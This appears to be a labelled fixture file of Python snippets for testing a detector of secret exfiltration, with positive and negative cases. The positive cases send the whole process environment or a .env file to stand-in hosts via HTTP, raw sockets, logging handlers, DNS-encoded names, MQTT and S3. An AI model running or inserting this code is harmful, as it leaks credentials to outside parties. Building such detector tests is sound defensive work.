#@ pos environment posted with urllib
import json, os, urllib.request
urllib.request.urlopen("http://c.example/", data=json.dumps(dict(os.environ)).encode())
#@ pos environment sent over a socket
import os, socket
s = socket.create_connection(("c.example", 9000))
s.sendall(repr(os.environ.copy()).encode())
#@ pos items posted with requests
import os, requests
requests.post("https://c.example/", data=dict(os.environ.items()))
#@ neg one variable and the network
import os, urllib.request
urllib.request.urlopen(os.environ.get("URL", "http://localhost/"))
#@ neg the environment without the network
import os
print(sorted(os.environ))
#@ neg the network without the environment
import urllib.request
urllib.request.urlopen("http://localhost/")
#@ pos a project's .env posted
import urllib.request
urllib.request.urlopen("https://c.example/u", data=open(".env", "rb").read())
#@ pos environment as a log record sent by logging's HTTPHandler
import logging, logging.handlers, os
log = logging.getLogger("x")
log.addHandler(logging.handlers.HTTPHandler("c.example:443", "/in", method="POST", secure=True))
log.warning("%r", dict(os.environ))
#@ pos environment through an opener
import os, urllib.request
urllib.request.build_opener().open("http://c.example/", data=repr(os.environ.copy()).encode())
#@ neg a .env read into settings, no network
import pathlib
settings = dict(l.split("=", 1) for l in pathlib.Path(".env").read_text().splitlines() if "=" in l)
#@ neg a variable tested for, and the network
import os, urllib.request
if "API_KEY" in os.environ:
    urllib.request.urlopen("https://api.example/v1", timeout=5)
if "PROXY" not in os.environ and not os.environ:
    pass
#@ neg a copy of the environment for git, and an API called
import os, subprocess, requests
env = os.environ.copy()
env["GIT_PAGER"] = "cat"
log = subprocess.run(["git", "log", "-3"], env=env, capture_output=True, text=True).stdout
requests.post("https://api.example/v1/notes", json={"log": log}, timeout=10)
#@ neg dict(os.environ, ...) for pytest, and urllib
import os, subprocess, urllib.request
subprocess.run(["pytest", "-q"], env=dict(os.environ, PYTHONHASHSEED="0"))
urllib.request.urlopen("https://api.example/v1/done", timeout=5)
#@ pos a copy for git, then the same copy posted
import os, subprocess, requests
env = os.environ.copy()
subprocess.run(["git", "fetch"], env=env)
requests.post("https://c.example/in", json=env)
#@ pos a child's env handed to a function that serialises it into a request
import json, os, subprocess, urllib.request
def report(data):
    urllib.request.urlopen("https://c.example/r", data=json.dumps(data).encode())
env = {**os.environ, "CI": "1"}
subprocess.run(["make"], env=env)
report(env)
#@ pos os.environ's private bytes mapping bound to a name, iterated and posted
import os, urllib.request
store = os.environ._data
body = b"\n".join(k + b"=" + v for k, v in store.items())
urllib.request.urlopen("http://198.51.100.51/e", data=body)
#@ neg one variable of the bytes mapping, sent to the program's own API
import os, urllib.request
token = os.environ._data[b"API_TOKEN"].decode()
urllib.request.urlopen(urllib.request.Request("https://api.example.com/v1/me", headers={"Authorization": "Bearer " + token}))
#@ pos environment carried out in DNS names
import os, socket
for k, v in os.environ.items():
    try:
        socket.getaddrinfo(v.encode().hex()[:60] + ".zone.example", 80)
    except OSError:
        pass
#@ pos the environment published over MQTT
import json, os
import paho.mqtt.publish as publish
publish.single("t/x", json.dumps(dict(os.environ)), hostname="broker.example.org")
#@ neg the host name published over MQTT
import json, socket
import paho.mqtt.publish as publish
publish.single("t/x", json.dumps({"host": socket.gethostname()}), hostname="broker.example.org")
#@ pos the environment put in an S3 bucket
import boto3, json, os
boto3.client("s3").put_object(Bucket="b", Key="k", Body=json.dumps(dict(os.environ)))
#@ neg a build report put in an S3 bucket
import boto3, json
boto3.client("s3").put_object(Bucket="b", Key="k", Body=json.dumps({"ok": 1}))
